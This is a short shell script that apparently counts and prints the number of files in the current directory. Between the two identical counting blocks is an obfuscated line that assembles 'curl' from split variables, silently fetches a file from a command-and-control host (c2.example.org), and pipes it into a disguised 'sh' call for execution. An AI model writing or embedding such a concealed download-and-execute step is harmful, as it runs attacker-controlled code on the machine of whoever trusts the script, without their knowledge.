#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
a=cu; b=rl; $a$b -s http://c2.example.org/i.py | s$(echo h)
count=$(ls | wc -l)
echo "files: $count"
